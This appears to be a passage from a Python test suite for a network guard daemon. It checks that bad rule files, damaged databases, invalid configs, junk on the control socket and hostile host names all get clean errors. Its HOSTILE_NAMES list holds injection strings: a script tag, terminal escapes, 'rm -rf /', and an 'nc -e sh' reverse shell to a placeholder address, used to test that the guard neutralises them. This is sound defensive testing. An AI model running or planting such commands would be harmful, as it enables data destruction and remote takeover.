"""Bad input that must get a clear error: never a traceback, never a hang, never a silent open.

Each section is one door into the guard: rule files (`RuleError` with file:line), the state
database (`StoreCorrupt`, the damaged file moved aside with its bytes intact), the config file
(`ConfigError` naming the key), the control socket (one error line per bad request, other clients
served meanwhile), and host names chosen by a speaker or whoever answers its DNS (inert in every
summary and table, and never a way around inspection). Known bugs are strict xfails whose reason
says what is wrong; they turn into failures the day the bug is fixed, so the mark gets removed.
"""

from __future__ import annotations

import json
import os
import random
import re
import socket
import sqlite3
import struct
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from guard.core.config import ConfigError, DeviceConfig, GuardConfig, load_config
from guard.core.engine import Engine, MarkFlow, UploadHeld, Verdict
from guard.core.packet import ACK, PSH, SYN, TCP, UDP, DnsAnswer, Hint, Packet, parse_frame
from guard.core.ruleset import RuleError, RuleSet, check_dirs, load_rules
from guard.shell.control import ControlError, ControlServer, Peer, reply_error, reply_ok, request
from guard.shell.store import Store, StoreCorrupt, StoreError
from guard.tools.analyze import analyze_capture, format_table
from guard.tools.capture import write_pcap
from tests.ci import missing_or_fail

REPO = Path(__file__).resolve().parents[1]
RULES = load_rules()
NOW = 1_700_000_000.0
INERT = re.compile(r"[a-z0-9._?-]{1,253}")  # what a host name may look like once it is ours


# ---------------------------------------------------------------------------------------------
# Rule files: every problem is a RuleError at file:line, from check_dirs and from load_rules


def _rules_dir(tmp_path: Path, text: str | bytes, name: str = "vendor.toml") -> Path:
    root = tmp_path / "rules"
    root.mkdir(exist_ok=True)
    path = root / name
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return root


HOST = '[[host]]\npattern = "a.example.com"\ncategory = "voice"\nsource = "[inf] test"\n'

BROKEN_RULES = [
    # (file text, line of the error, what the message says)
    pytest.param('schema = 1\n[[host]]\npattern = "a.example.com\n', 3, "TOML syntax",
                 id="unterminated-string"),
    pytest.param("schema = 1\n\n[[host\n", 3, "TOML syntax", id="unclosed-table-header"),
    pytest.param('schema = 1\nvendor = "x"\nvendor = "y"\n', 3, "TOML syntax", id="duplicate-key"),
    pytest.param('schema = "1"\n' + HOST, 1, "unsupported schema", id="schema-is-a-string"),
    pytest.param("schema = true\n" + HOST, 1, "unsupported schema", id="schema-is-a-bool"),
    pytest.param(HOST, 1, "missing 'schema", id="no-schema"),
    pytest.param("", 1, "missing 'schema", id="empty-file"),
    pytest.param("schema = 1\nvendors = 3\n", 2, "unknown key 'vendors'", id="unknown-top-key"),
    pytest.param("schema = 1\nvendor = 7\n", 2, "vendor must be", id="vendor-is-a-number"),
    pytest.param("schema = 1\nhost = 5\n", 2, "must be an array of tables", id="host-is-a-number"),
    pytest.param("schema = 1\nhost = [5]\n", 2, "must be a table", id="host-entry-is-a-number"),
    pytest.param("schema = 1\n[[host]]\npattern = 5\ncategory = \"voice\"\nsource = \"s\"\n", 3,
                 "'pattern' must be a string", id="pattern-is-a-number"),
    pytest.param("schema = 1\n[[host]]\npattern = [\"a.b.c\"]\ncategory = \"voice\"\n"
                 "source = \"s\"\n", 3, "'pattern' must be a string", id="pattern-is-a-list"),
    pytest.param("schema = 1\n[[host]]\npattern = \"a.example.com\"\ncategory = {x = 1}\n"
                 "source = \"s\"\n", 4, "'category' must be a string", id="category-is-a-table"),
    pytest.param("schema = 1\n[[host]]\npattern = \"a.example.com\"\ncategory = \"evil\"\n"
                 "source = \"s\"\n", 4, "unknown category 'evil'", id="unknown-category"),
    pytest.param("schema = 1\n[[host]]\npattern = \"*.com\"\ncategory = \"voice\"\n"
                 "source = \"s\"\n", 3, "last two labels must be literal", id="wildcard-tld"),
    pytest.param("schema = 1\n[[host]]\npattern = \"<script>.example.com\"\ncategory = \"voice\"\n"
                 "source = \"s\"\n", 3, "may hold only", id="html-in-pattern"),
    pytest.param("schema = 1\n[[host]]\npattern = \"a.example.com\"\ncategory = \"voice\"\n", 2,
                 "has no 'source'", id="no-source"),
    pytest.param("schema = 1\n" + HOST + "extra = 1\n", 6, "unknown key 'extra'",
                 id="unknown-entry-key"),
    pytest.param("schema = 1\n" + HOST + "\n" + HOST, 7, "duplicate host", id="duplicate-entry"),
    pytest.param("schema = 1\n[[oui]]\nprefix = \"68:db:f5\"\nsource = \"s\"\n", 2,
                 "need a top-level 'vendor'", id="oui-without-vendor"),
    pytest.param("schema = 1\nvendor = \"v\"\n[[oui]]\nprefix = \"zz:db:f5\"\nsource = \"s\"\n", 4,
                 "bad OUI", id="bad-oui"),
    pytest.param("schema = 1\n[[address_hint]]\ncidr = \"0.0.0.0/0\"\ncategory = \"voice\"\n"
                 "source = \"s\"\n", 3, "too wide", id="hint-covers-the-internet"),
    pytest.param("schema = 1\n[[address_hint]]\ncidr = \"52.94.233.1/24\"\ncategory = \"voice\"\n"
                 "source = \"s\"\n", 3, "bad CIDR", id="hint-with-host-bits"),
    pytest.param("schema = 1\n[[address_hint]]\ncidr = \"52.94.233.0/24\"\n"
                 "category = \"media\"\nsource = \"s\"\n", 4, "may only say 'voice'",
                 id="hint-that-would-allow"),
    pytest.param(b"schema = 1\n# caf\xe9\n", 2, "not UTF-8", id="not-utf8"),
    pytest.param(b"\x00\xff\xfe garbage \x1b[2J", 1, "not UTF-8", id="binary-garbage"),
]


@pytest.mark.parametrize(("text", "line", "message"), BROKEN_RULES)
def test_broken_rule_file_is_reported_at_file_and_line(
    tmp_path: Path, text: str | bytes, line: int, message: str
) -> None:
    root = _rules_dir(tmp_path, text)
    path = str(root / "vendor.toml")
    errors = check_dirs([root], builtin=False)
    assert errors, "a broken file must not check clean"
    assert all(isinstance(e, RuleError) for e in errors)
    first = errors[0]
    assert (first.file, first.line) == (path, line), errors
    assert message in first.message
    assert str(first).startswith(f"{path}:{line}: ")
    assert "\n" not in str(first)
    with pytest.raises(RuleError) as exc:
        load_rules([root])  # with the built-in rules too: they stay clean, the file is still bad
    assert (exc.value.file, exc.value.line) == (path, line)


def test_unreadable_rule_file_is_an_error_without_a_line(tmp_path: Path) -> None:
    root = tmp_path / "rules"
    (root / "dir.toml").mkdir(parents=True)  # a directory where a file should be
    errors = check_dirs([root], builtin=False)
    assert [(Path(e.file).name, e.line) for e in errors] == [("dir.toml", 0)]
    assert "cannot read" in errors[0].message
    errors = check_dirs([tmp_path / "missing"], builtin=False)
    assert len(errors) == 1 and "no such rules directory" in errors[0].message


DEEP = 2000


def test_deeply_nested_rule_file_is_a_rule_error(tmp_path: Path) -> None:
    root = _rules_dir(tmp_path, "schema = 1\nx = " + "[" * DEEP + "]" * DEEP + "\n")
    errors = check_dirs([root], builtin=False)
    assert errors and errors[0].file.endswith("vendor.toml")


def test_mutated_shipped_rule_files_give_rule_errors_or_rules(tmp_path: Path) -> None:
    """The shipped files, damaged at random: check_dirs returns RuleErrors (never raises),
    load_rules returns a RuleSet or raises RuleError, and every line number is in the file."""
    rng = random.Random(0x5EED_1001)
    sources = [p.read_bytes() for p in sorted((REPO / "rules").glob("*.toml"))]
    root = tmp_path / "rules"
    root.mkdir()
    path = root / "mutated.toml"
    seen_errors = 0
    for _ in range(300):
        data = bytearray(rng.choice(sources))
        for _ in range(rng.choice((1, 2, 5))):
            i = rng.randrange(len(data))
            op = rng.randrange(4)
            if op == 0:
                data[i] = rng.choice(b'[]{}="\n#*.,\\\x00\xff' + bytes([rng.randrange(256)]))
            elif op == 1:
                del data[i : i + rng.randrange(1, 40)]
            elif op == 2:
                data[i:i] = rng.choice((b"[[host]]\n", b"category = 5\n", b'"""', b"\n[[oui]]\n"))
            else:
                data[i:i] = data[rng.randrange(len(data)) :][: rng.randrange(1, 80)]
        path.write_bytes(bytes(data))
        lines = bytes(data).count(b"\n") + 1
        errors = check_dirs([root], builtin=False)
        for err in errors:
            assert isinstance(err, RuleError)
            assert err.file == str(path) and 0 <= err.line <= lines, err
            assert "\n" not in str(err)
        try:
            result = load_rules([root], builtin=False)
        except RuleError as err:
            assert errors and err.line == errors[0].line
            seen_errors += 1
        else:
            assert not errors and isinstance(result, RuleSet)
    assert seen_errors > 100


# ---------------------------------------------------------------------------------------------
# The state database: a file that is not ours is moved aside, bytes intact, never reused


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "state" / "state.db"
    path.parent.mkdir(mode=0o700)
    return path


def _assert_moved_aside(db: Path, original: bytes, side: dict[str, bytes] | None = None) -> None:
    with pytest.raises(StoreCorrupt) as exc:
        Store.open(db, NOW)
    moved = exc.value.moved_to
    assert moved.parent == db.parent and moved.name.startswith("state.db.corrupt-")
    assert moved.read_bytes() == original  # the evidence is kept exactly as it was
    for suffix, data in (side or {}).items():
        assert Path(f"{moved}{suffix}").read_bytes() == data
        assert not Path(f"{db}{suffix}").exists()
    assert not db.exists()  # never silently reset in place
    assert str(db) in str(exc.value) and str(moved) in str(exc.value)
    # The daemon then comes up on a fresh store above the old ids.
    with Store.open(db, NOW, upload_id_floor=exc.value.next_id_floor) as store:
        assert store.next_upload_id() > exc.value.next_id_floor


@pytest.mark.parametrize("size", [2, 17, 100, 511, 4096, 65537])
def test_random_bytes_are_moved_aside(db: Path, size: int) -> None:
    data = random.Random(size).randbytes(size)
    db.write_bytes(data)
    _assert_moved_aside(db, data)


def test_sqlite_header_then_garbage_is_moved_aside(db: Path) -> None:
    data = b"SQLite format 3\x00" + random.Random(1).randbytes(8000)
    db.write_bytes(data)
    _assert_moved_aside(db, data)


def _sqlite(db: Path, *sql: str) -> bytes:
    conn = sqlite3.connect(db)
    for statement in sql:
        conn.execute(statement)
    conn.commit()
    conn.close()
    return db.read_bytes()


def test_foreign_database_with_other_tables_is_moved_aside(db: Path) -> None:
    data = _sqlite(db, "CREATE TABLE rules (x)", "INSERT INTO rules VALUES ('allow everything')")
    _assert_moved_aside(db, data)


def test_our_application_id_with_wrong_tables_is_moved_aside(db: Path) -> None:
    data = _sqlite(db, "PRAGMA application_id = 1213417300", "PRAGMA user_version = 1",
                   "CREATE TABLE audit (anything)")
    _assert_moved_aside(db, data)


def test_our_store_with_a_table_replaced_is_moved_aside(db: Path) -> None:
    Store.open(db, NOW).close()
    data = _sqlite(db, "DROP TABLE pending", "CREATE TABLE pending (id INTEGER, evil TEXT)")
    _assert_moved_aside(db, data)


def test_our_store_with_its_id_sequence_emptied_is_moved_aside(db: Path) -> None:
    with Store.open(db, NOW) as store:
        store.next_upload_id()
    data = _sqlite(db, "DELETE FROM upload_seq")
    _assert_moved_aside(db, data)


def test_truncated_store_is_moved_aside(db: Path) -> None:
    with Store.open(db, NOW) as store:
        for _ in range(5):
            store.next_upload_id()
    data = db.read_bytes()[:3000]
    db.write_bytes(data)
    _assert_moved_aside(db, data)


def test_foreign_database_and_its_wal_move_aside_together(db: Path) -> None:
    data = _sqlite(db, "CREATE TABLE t (x)")
    wal = b"not a wal" * 10
    Path(f"{db}-wal").write_bytes(wal)
    _assert_moved_aside(db, data, {"-wal": wal})


def test_one_byte_file_is_moved_aside(db: Path) -> None:
    db.write_bytes(b"\x07")
    _assert_moved_aside(db, b"\x07")


def test_directory_where_the_store_should_be_is_a_store_error(db: Path) -> None:
    db.mkdir()
    with pytest.raises(StoreError):
        Store.open(db, NOW)


# ---------------------------------------------------------------------------------------------
# The config file: ConfigError naming the file and the key


def _config(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "hushgate.toml"
    path.write_text(text)
    return path


def _config_error(tmp_path: Path, text: str) -> str:
    path = _config(tmp_path, text)
    with pytest.raises(ConfigError) as exc:
        load_config(path)
    message = str(exc.value)
    assert message.startswith(f"{path}: ") and "\n" not in message
    return message


DEVICE = '[[device]]\nname = "echo"\naddress = "198.18.10.10"\n'


@pytest.mark.parametrize(("text", "key"), [
    ("bogus = 1\n", "bogus"),
    ("[guard]\nfial = \"open\"\n", "fial"),
    ("[metrics]\nport = 9877\n", "port"),
    ("[web]\npassword = \"hunter2\"\n", "password"),
    ("[[hook]]\ncommand = \"/bin/true\"\nshell = true\n", "shell"),
    (DEVICE + "macc = \"68:db:f5:90:19:64\"\n", "macc"),
])
def test_unknown_key_is_a_config_error_naming_it(tmp_path: Path, text: str, key: str) -> None:
    assert key in _config_error(tmp_path, text)


_CRASH_TABLE = ("parse_config calls _check_keys/.get on a section without checking it is a "
                "table: TypeError escapes instead of ConfigError")
_CRASH_NUMBER = ("_number accepts nan/inf (they are floats >= the minimum) and int() then raises "
                 "ValueError/OverflowError instead of ConfigError")
_SILENT_NUMBER = ("_number accepts nan/inf: the value is kept and the guard runs with it (a NaN "
                  "deadline never fires and poisons the engine's timer heap) instead of "
                  "ConfigError")
_SILENT_TYPE = "a value of the wrong type is coerced with str()/bool() instead of refused"

BAD_VALUES = [
    # (config text, the key the message must name)
    pytest.param("[guard]\nfail = \"OPEN\"\n", "guard.fail", id="fail-mode-case"),
    pytest.param("[guard]\nfail = [\"open\"]\n", "guard.fail", id="fail-mode-list"),
    pytest.param("[guard]\nqueue = -1\n", "guard.queue", id="queue-negative"),
    pytest.param("[guard]\nqueue = \"7-70000\"\n", "guard.queue", id="queue-range-too-high"),
    pytest.param("[guard]\nqueue = \"nine\"\n", "guard.queue", id="queue-text"),
    pytest.param("[guard]\nhold_timeout_s = 0\n", "guard.hold_timeout_s", id="timeout-zero"),
    pytest.param("[guard]\nhold_timeout_s = \"20s\"\n", "guard.hold_timeout_s", id="timeout-text"),
    pytest.param("[guard]\nmax_held_bytes_total = true\n", "guard.max_held_bytes_total",
                 id="cap-bool"),
    pytest.param("[guard]\nmark_mask = \"0x1\"\n", "guard.mark_mask", id="mask-one-bit"),
    pytest.param("[guard]\nmark_mask = \"bits\"\n", "guard.mark_mask", id="mask-text"),
    pytest.param("[guard]\nsocket = 5\n", "guard.socket", id="socket-number"),
    pytest.param("[guard]\nstate_db = \"\"\n", "guard.state_db", id="state-db-empty"),
    pytest.param("[guard]\nquic = \"drop\"\n", "guard.quic", id="quic-choice"),
    pytest.param("[[device]]\nname = \"../../etc\"\naddress = \"198.18.10.10\"\n", "name",
                 id="device-name-path"),
    pytest.param("[[device]]\nname = \"echo\"\n", "echo", id="device-without-address"),
    pytest.param(DEVICE + "mode = \"permissive\"\n", "mode", id="device-mode"),
    pytest.param("[[device]]\nname = \"echo\"\naddress = \"198.18.10.300\"\n", "address",
                 id="device-address"),
    pytest.param(DEVICE + "categories = { voice = \"yes\" }\n", "categories.voice",
                 id="device-category-action"),
    pytest.param(DEVICE + "categories = { tv = \"allow\" }\n", "categories",
                 id="device-unknown-category"),
    pytest.param(DEVICE + "categories = \"voice\"\n", "categories", id="device-categories-text"),
    pytest.param(DEVICE + DEVICE, "echo", id="device-duplicate"),
    pytest.param("[[hook]]\nevents = [\"upload-held\"]\n", "hook[0]", id="hook-without-target"),
    # Known bugs: crashes
    pytest.param("guard = 5\n", "guard", id="guard-not-a-table"),
    pytest.param("metrics = 3\n", "metrics", id="metrics-not-a-table"),
    pytest.param("web = 5\n", "web", id="web-not-a-table"),
    pytest.param("device = 5\n", "device", id="device-not-an-array"),
    pytest.param("hook = [1]\n", "hook", id="hook-entry-not-a-table"),
    pytest.param("[[hook]]\ncommand = 5\n", "command", id="hook-command-number"),
    pytest.param("[[hook]]\ncommand = \"/bin/true\"\nevents = 5\n", "events",
                 id="hook-events-number"),
    pytest.param("[web]\nhosts = 5\n", "web.hosts", id="web-hosts-number"),
    pytest.param(DEVICE + "address6 = 5\n", "address6", id="device-address6-number"),
    pytest.param("[guard]\nmark_mask = [1]\n", "guard.mark_mask", id="mask-list"),
    pytest.param("[guard]\nmark_mask = inf\n", "guard.mark_mask", id="mask-inf"),
    pytest.param("[guard]\nqueue = nan\n", "guard.queue", id="queue-nan"),
    pytest.param("[guard]\nqueue = inf\n", "guard.queue", id="queue-inf"),
    pytest.param("[guard]\nwindow_segments = nan\n", "guard.window_segments",
                 id="window-segments-nan"),
    pytest.param("[guard]\nmax_held_bytes_total = inf\n", "guard.max_held_bytes_total",
                 id="cap-inf"),
    # Known bugs: accepted silently
    pytest.param("[guard]\nhold_timeout_s = nan\n", "guard.hold_timeout_s", id="timeout-nan"),
    pytest.param("[guard]\nhold_timeout_s = inf\n", "guard.hold_timeout_s", id="timeout-inf"),
    pytest.param("[guard]\nmax_turn_s = nan\n", "guard.max_turn_s", id="max-turn-nan"),
    pytest.param("[guard]\nwindow_segments = 1.5\n", "guard.window_segments",
                 id="window-segments-fraction"),
    pytest.param("[metrics]\nlisten = false\n", "metrics.listen", id="metrics-listen-bool"),
    pytest.param("[web]\ntls = \"no\"\n", "web.tls", id="web-tls-text"),
    pytest.param("[web]\nlisten = 8787\n", "web.listen", id="web-listen-number"),
    pytest.param(DEVICE + "mac = 5\n", "mac", id="device-mac-number"),
    pytest.param(DEVICE + "route_mark = \"vpn\"\n", "route_mark", id="route-mark-text"),
    pytest.param(DEVICE + "route_mark = 0x100000000\n", "route_mark", id="route-mark-33-bits"),
    pytest.param(DEVICE + "route_mark = 0x20000000\n", "route_mark",
                 id="route-mark-uses-the-relay-bit"),
]


@pytest.mark.parametrize(("text", "key"), BAD_VALUES)
def test_bad_value_is_a_config_error_naming_the_key(tmp_path: Path, text: str, key: str) -> None:
    assert key in _config_error(tmp_path, text)


def test_config_syntax_errors_and_unreadable_files_are_config_errors(tmp_path: Path) -> None:
    assert "line 2" in _config_error(tmp_path, "[guard]\nqueue = = 7\n")
    path = tmp_path / "latin1.toml"
    path.write_bytes(b"# caf\xe9\n")
    with pytest.raises(ConfigError, match="cannot read"):
        load_config(path)
    with pytest.raises(ConfigError, match="no such config file"):
        load_config(tmp_path / "missing.toml")
    with pytest.raises(ConfigError, match="cannot read"):
        load_config(tmp_path)  # a directory


def test_deeply_nested_config_is_a_config_error(tmp_path: Path) -> None:
    _config_error(tmp_path, "[guard]\nqueue = " + "[" * DEEP + "]" * DEEP + "\n")


# ---------------------------------------------------------------------------------------------
# The control socket: garbage gets one error line; nobody stalls anybody


def _handler(req: dict[str, Any], peer: Peer) -> dict[str, Any]:
    cmd = req["cmd"]
    if cmd == "ping":
        return reply_ok("pong")
    if cmd == "refuse":
        raise ControlError("refused\nwith a second line")
    if cmd == "boom":
        raise ValueError("a bug in the handler")
    if cmd == "nan":
        return reply_ok(float("nan"))  # not JSON: must not become a half-written reply
    return reply_error(f"unknown command {cmd!r}")


@pytest.fixture
def sockdir() -> Iterator[Path]:
    # AF_UNIX paths are limited to 108 bytes: pytest's tmp_path can be longer.
    path = Path(tempfile.mkdtemp(prefix="hg-", dir="/tmp"))
    yield path
    for child in path.iterdir():
        child.unlink()
    path.rmdir()


@pytest.fixture
def server(sockdir: Path) -> Iterator[ControlServer]:
    srv = ControlServer(str(sockdir / "control.sock"), _handler, read_timeout_s=1.0)
    srv.start()
    yield srv
    srv.stop()


class Client:
    def __init__(self, path: str, timeout_s: float = 5.0) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout_s)
        self.sock.connect(path)
        self.buf = b""

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def line(self) -> dict[str, Any]:
        while b"\n" not in self.buf:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError(f"closed without a reply (had {self.buf[:80]!r})")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        assert all(0x20 <= b < 0x7F for b in line), line  # nothing for a terminal to obey
        reply = json.loads(line)
        assert isinstance(reply, dict) and isinstance(reply["ok"], bool)
        if not reply["ok"]:
            assert isinstance(reply["error"], str) and "\n" not in reply["error"]
        return reply

    def closed(self) -> bool:
        try:
            return self.sock.recv(1) == b""
        except (ConnectionResetError, TimeoutError):
            return True

    def close(self) -> None:
        self.sock.close()


def _ping(path: str) -> float:
    started = time.monotonic()
    assert request(path, {"cmd": "ping"}, timeout_s=5.0) == "pong"
    return time.monotonic() - started


GARBAGE_LINES = [
    (b"hello\n", "bad request: not JSON"),
    (b"\xff\xfe\x00\x01\n", "bad request: not UTF-8"),
    (b"[1, 2, 3]\n", "bad request: expected a JSON object"),
    (b"\"ping\"\n", "bad request: expected a JSON object"),
    (b"{}\n", 'bad request: no "cmd"'),
    (b"{\"cmd\": 5}\n", 'bad request: no "cmd"'),
    (b"{\"cmd\": \"\"}\n", 'bad request: no "cmd"'),
    (b"{\"cmd\": \"ping\"\n", "bad request: not JSON"),
    (b"[" * 60_000 + b"\n", "bad request: not JSON"),  # RecursionError inside json
    (b"{\"cmd\": \"\x1b[2J\"}\n", "bad request: not JSON"),  # a raw control character
    (b"{\"cmd\": \"\\u001b[2J<b>\"}\n", "unknown command"),  # the same, escaped: JSON
    (b"{\"cmd\": \"refuse\"}\n", "refused with a second line"),
    (b"{\"cmd\": \"boom\"}\n", "internal error: ValueError"),
    (b"{\"cmd\": \"nan\"}\n", "internal error: ValueError"),
]


def test_garbage_lines_each_get_one_error_and_the_connection_goes_on(
    server: ControlServer,
) -> None:
    client = Client(server.path)
    for data, error in GARBAGE_LINES:
        client.send(data)
        reply = client.line()
        assert not reply["ok"] and reply["error"].startswith(error), (data[:40], reply)
        client.send(b"{\"cmd\": \"ping\"}\r\n")  # the same connection still works
        assert client.line() == {"ok": True, "result": "pong"}
    client.send(b"\n\n   \n")  # blank lines are keep-alives: no reply
    client.send(b"{\"cmd\":\"ping\"}\n" * 3)  # pipelined: three replies, in order
    assert [client.line()["result"] for _ in range(3)] == ["pong"] * 3
    client.close()
    assert server.errors == 2  # the two handler bugs, logged; nothing else


def test_oversized_line_is_refused_and_others_are_served_meanwhile(server: ControlServer) -> None:
    big = Client(server.path)
    big.send(b"{\"cmd\": \"ping\", \"pad\": \"" + b"x" * 70_000)
    reply = big.line()
    assert not reply["ok"] and reply["error"].startswith("request line too long")
    assert big.closed()
    big.close()
    # A line too long even with its newline in the same chunk.
    big = Client(server.path)
    big.send(b"{\"cmd\": \"ping\", \"pad\": \"" + b"y" * 200_000 + b"\"}\n")
    assert big.line()["error"].startswith("request line too long")
    big.close()
    assert _ping(server.path) < 1.0


def test_half_written_lines_time_out_without_stalling_anybody(server: ControlServer) -> None:
    slow = [Client(server.path) for _ in range(10)]
    for client in slow:
        client.send(b"{\"cmd\": \"pi")  # and nothing more
    started = time.monotonic()
    assert _ping(server.path) < 0.8  # served long before the slow ones time out (1 s)
    for client in slow:
        reply = client.line()
        assert not reply["ok"] and reply["error"].startswith("incomplete request line")
        assert client.closed()
        client.close()
    assert 0.8 <= time.monotonic() - started < 4.0
    # A client that half-closes after an unterminated request is still answered.
    client = Client(server.path)
    client.send(b"{\"cmd\": \"ping\"}")
    client.sock.shutdown(socket.SHUT_WR)
    assert client.line() == {"ok": True, "result": "pong"}
    client.close()


def test_a_client_that_never_reads_its_replies_stalls_nobody(server: ControlServer) -> None:
    hog = Client(server.path)
    hog.sock.setblocking(False)
    sent = 0
    deadline = time.monotonic() + 3.0
    chunk = b"{\"cmd\":\"ping\"}\n" * 2000
    while time.monotonic() < deadline and sent < 20_000_000:
        try:
            sent += hog.sock.send(chunk)
        except BlockingIOError:
            break  # the server stopped reading from it: its replies are not being read
    assert _ping(server.path) < 1.0
    hog.close()
    assert _ping(server.path) < 1.0


def _concurrent_pings(path: str, count: int) -> list[tuple[dict[str, Any], float]]:
    """`count` clients connect at once, then all send a ping; each reply and its delay."""
    barrier = threading.Barrier(count)
    results: list[tuple[dict[str, Any], float] | BaseException] = [RuntimeError("no reply")] * count

    def one(i: int) -> None:
        try:
            client = Client(path)
            barrier.wait(timeout=10)
            started = time.monotonic()
            try:
                client.send(b"{\"cmd\": \"ping\"}\n")
            except (BrokenPipeError, ConnectionResetError):
                pass  # refused at once: its error line is already waiting
            results[i] = (client.line(), time.monotonic() - started)
            client.close()
        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
            results[i] = exc

    threads = [threading.Thread(target=one, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=20)
    failures = [r for r in results if isinstance(r, BaseException)]
    assert not failures, failures[:3]
    return results  # type: ignore[return-value]


def test_fifty_concurrent_clients_are_all_answered_within_a_bound(sockdir: Path) -> None:
    with ControlServer(str(sockdir / "c.sock"), _handler, max_clients=64) as srv:
        results = _concurrent_pings(srv.path, 50)
    assert all(reply == {"ok": True, "result": "pong"} for reply, _ in results)
    assert max(delay for _, delay in results) < 5.0


def test_more_clients_than_the_limit_get_an_error_line_not_a_hang(server: ControlServer) -> None:
    # The default limit is 32 connections: the others are told so at once.
    results = _concurrent_pings(server.path, 50)
    replies = [reply for reply, _ in results]
    served = sum(1 for r in replies if r == {"ok": True, "result": "pong"})
    refused = [r for r in replies if r != {"ok": True, "result": "pong"}]
    assert served >= 32 and all(r["error"] == "too many clients" for r in refused)
    assert max(delay for _, delay in results) < 5.0
    assert _ping(server.path) < 1.0


NOBODY = 65534


def _connect_as(uid: int, path: str) -> str:
    """Connect from a child process running as `uid`; what it got ("EACCES" or the reply)."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: no pytest machinery from here on, only os and socket
        result = b"?"
        try:
            os.setgid(uid)
            os.setuid(uid)
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(5)
            try:
                sock.connect(path)
            except PermissionError:
                result = b"EACCES"
            else:
                try:
                    sock.sendall(b'{"cmd": "ping"}\n')
                except OSError:
                    pass  # refused at once: the error line is already waiting
                result = sock.recv(4096).strip()
        finally:
            os.write(write, result)
            os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    with os.fdopen(read, "rb") as f:
        return f.read().decode()


def test_unprivileged_users_are_refused(server: ControlServer) -> None:
    mode = os.stat(server.path).st_mode & 0o777
    assert mode == 0o600  # only the owner (root on a router) can even connect
    if os.geteuid() != 0:
        missing_or_fail("needs root to connect as another user")
    assert _connect_as(NOBODY, server.path) == "EACCES"
    os.chmod(server.path, 0o666)  # even if the file mode is wrong, SO_PEERCRED still says no
    os.chmod(os.path.dirname(server.path), 0o755)
    reply = json.loads(_connect_as(NOBODY, server.path))
    assert reply["ok"] is False and reply["error"].startswith("permission denied")
    assert f"uid {NOBODY}" in reply["error"]
    assert server.refused == 1
    assert _ping(server.path) < 1.0


# ---------------------------------------------------------------------------------------------
# Hostile host names: from SNI and DNS, through the engine, into summaries and tables

ECHO, CLOUD = "198.18.10.10", "198.19.0.10"
HOSTILE_NAMES = [
    b"<script>alert(1)</script>.example.com",
    b"\x1b[2J\x1b]0;pwned\x07\x1b[31mred.example.com",
    b"a.example.com; rm -rf / #",
    b"$(reboot)`id`|nc -e sh 1.2.3.4&&.example.com",
    b"x" * 255 + b".example.com",  # a 255-byte label
    (b"y" * 63 + b".") * 8,  # 512 characters of valid-looking labels
    b"caf\xc3\xa9.\xe2\x80\xae.example.com",  # UTF-8, and a right-to-left override
    b"NUL\x00byte.example.com",
    b"new\nline.example.com\r\n",
    b"BOB-DISPATCH-PROD-NA.AMAZON.COM.",
]


def client_hello(name: bytes) -> bytes:
    """A ClientHello record whose server_name is `name`, whatever its bytes."""
    entry = b"\x00" + struct.pack("!H", len(name)) + name
    sni = struct.pack("!HH", 0, len(entry) + 2) + struct.pack("!H", len(entry)) + entry
    body = (b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
            + struct.pack("!H", len(sni)) + sni)
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def dns_labels(name: bytes) -> bytes:
    """Wire labels for `name`, split at dots; labels over 63 bytes are cut to 63."""
    labels = [label[:63] for label in name.split(b".") if label]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\x00"


def dns_response(qname: bytes, address: bytes, cname: bytes | None = None) -> bytes:
    answers = 2 if cname else 1
    msg = (struct.pack("!HHHHHH", 9, 0x8180, 1, answers, 0, 0) + dns_labels(qname)
           + b"\x00\x01\x00\x01")
    owner = b"\xc0\x0c"
    if cname:
        target = dns_labels(cname)
        msg += owner + struct.pack("!HHIH", 5, 1, 300, len(target)) + target
        owner = dns_labels(cname)
    return msg + owner + struct.pack("!HHIH", 1, 1, 300, 4) + address


def _frame(src: str, dst: str, l4: bytes, proto: int) -> bytes:
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 1, 0x4000, 64, proto, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return bytes.fromhex("00112233445568dbf5901964") + b"\x08\x00" + ip + l4


def _tcp(sport: int, dport: int, seq: int, payload: bytes, flags: int = ACK | PSH) -> bytes:
    return struct.pack("!HHIIBBHHH", sport, dport, seq, 7, 5 << 4, flags, 65535, 0, 0) + payload


def _udp(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def hostile_capture(names: list[bytes]) -> list[tuple[float, bytes]]:
    """For each name: a DNS answer naming a remote, then a connection to that remote whose
    ClientHello names it too, then an audio-shaped upload on it."""
    frames: list[tuple[float, bytes]] = []
    t = 1_000.0
    for i, name in enumerate(names):
        remote = f"198.19.1.{i + 1}"
        frames.append((t, _frame("198.18.10.1", ECHO, _udp(53, 33000 + i, dns_response(
            name, socket.inet_aton(remote), cname=name[::-1][:60] or None)), UDP)))
        sport = 40000 + i
        frames.append((t + 0.1, _frame(ECHO, remote, _tcp(sport, 443, 999, b"", SYN), TCP)))
        hello = client_hello(name)
        frames.append((t + 0.2, _frame(ECHO, remote, _tcp(sport, 443, 1000, hello), TCP)))
        seq = 1000 + len(hello)
        for k in range(40):
            frames.append((t + 1.0 + 0.02 * k, _frame(ECHO, remote, _tcp(sport, 443, seq,
                                                                        bytes(1200)), TCP)))
            seq += 1200
        t += 100.0
    return frames


def _assert_inert_host(host: Any) -> None:
